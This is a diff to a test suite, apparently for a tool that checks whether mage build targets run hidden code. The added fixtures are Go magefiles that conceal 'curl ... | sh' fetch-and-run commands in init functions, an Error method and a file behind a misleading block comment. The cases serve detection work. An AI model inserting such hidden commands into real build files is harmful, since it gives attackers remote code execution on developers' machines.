@@ -256,13 +256,39 @@ describe('mage judges what the targets named run', () => {
     const files = {
       'magefile.go':
         HEAD.replace('\t"os"', '\t"context"\n\t"os"') +
-        'var Version = "1.2.3"\nvar _ os.FileMode\n\nfunc Build(ctx context.Context) error { return compile(ctx) }\n\nfunc compile(ctx context.Context) error { return sh.RunV("go", "build", "./...") }\n',
+        'var Version = "1.2.3"\nvar count int\n\nfunc Build(ctx context.Context) error { return compile(ctx) }\n\nfunc compile(ctx context.Context) error { return sh.RunV("go", "build", "./...") }\n',
     };
     expect(analyze('mage build', files)).toEqual({ hits: [], uncertain: '' });
   });
 
   // Found by a review of the first version (each one allowed then), as written by the reviewer.
   it.each<[string, string, Record<string, string>]>([
+    [
+      'a declaration ended by an explicit semicolon before init code',
+      'mage -l',
+      {
+        'magefile.go':
+          '//go:build mage\n\npackage main\n\nimport (\n\t"os/exec"\n\n\t"github.com/magefile/mage/sh"\n)\n\nconst version = "1"; func init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
+      },
+    ],
+    [
+      'an error value of a type of the files, zero-valued',
+      'mage build',
+      {
+        'magefile.go':
+          '//go:build mage\n\npackage main\n\nimport (\n\t"os/exec"\n\n\t"github.com/magefile/mage/sh"\n)\n\ntype T struct{}\n\nfunc (T) Error() string {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n\treturn "done"\n}\n\nvar err T\n\nfunc Build() error {\n\tif err := sh.Run("go", "build", "./..."); err != nil {\n\t\treturn err\n\t}\n\treturn err\n}\n',
+      },
+    ],
+    [
+      'a block comment holding a package line before the constraint',
+      'mage -l',
+      {
+        'magefile.go':
+          '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
+        'zz_tools.go':
+          '/*\npackage tools holds helper notes.\n*/\n\n//go:build mage\n\npackage main\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
+      },
+    ],
     [
       'a helper called with arguments that run code',
       'mage build',
